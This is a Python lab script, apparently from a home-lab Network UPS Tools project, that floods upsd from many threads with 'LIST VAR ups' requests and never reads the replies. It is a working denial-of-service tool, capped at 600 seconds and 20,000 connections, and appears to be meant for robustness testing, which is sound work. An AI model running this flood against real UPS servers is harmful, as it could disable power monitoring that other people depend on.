# Copyright (c) 2026, The homelab.nut contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a compromised machine does to upsd: it asks again and again, on several connections, and never reads an answer.

Bounded: it ends by itself after SECONDS, and makes no more than LIMIT connections. The lab runs it on a machine by its text, so it
imports the standard library only: python3 - HOST PORT SECONDS CONNECTIONS.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import threading
import time

LIMIT = 20000
BUFFER = 512  # bytes that upsd reads from a client at once
# as much as fits into what upsd reads at once: long answers, which fill all buffers, and then as many short ones as can be
LONG = b"LIST VAR ups\n" * (BUFFER // len(b"LIST VAR ups\n"))
SHORT = b"\n" * (BUFFER - 1)


class Attack:
    """The attack: each thread has one connection after another."""

    def __init__(self, host: str, port: int, seconds: float) -> None:
        """Begin to count."""
        self.place, self.end = (host, port), time.monotonic() + seconds
        self.left = LIMIT
        self.lock = threading.Lock()

    def is_active(self) -> bool:
        """Return whether there is time."""
        return time.monotonic() < self.end and self.left > 0

    def keep_connecting(self) -> None:
        """Connect again whenever upsd has hung up."""
        while self.is_active():
            with self.lock:
                self.left -= 1
            with contextlib.suppress(OSError), socket.socket() as connection:
                # the smallest there is: the other side is full the sooner
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
                connection.settimeout(2.0)
                connection.connect(self.place)
                self.flood_connection(connection)
            time.sleep(0.02)

    def flood_connection(self, connection: socket.socket) -> None:
        """Send, and read nothing, until the other side hangs up."""
        connection.settimeout(0.2)
        connection.sendall(LONG)
        while self.is_active():
            with contextlib.suppress(TimeoutError, socket.timeout):
                connection.sendall(SHORT)
                connection.sendall(LONG)


def main() -> None:
    """Attack HOST PORT for SECONDS by so many CONNECTIONS at a time."""
    host, port, seconds, connections = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    attack = Attack(host, port, min(seconds, 600.0))
    for _number in range(min(connections, 100)):
        threading.Thread(target=attack.keep_connecting, daemon=True).start()
    while attack.is_active():
        time.sleep(0.1)


if __name__ == "__main__":
    main()
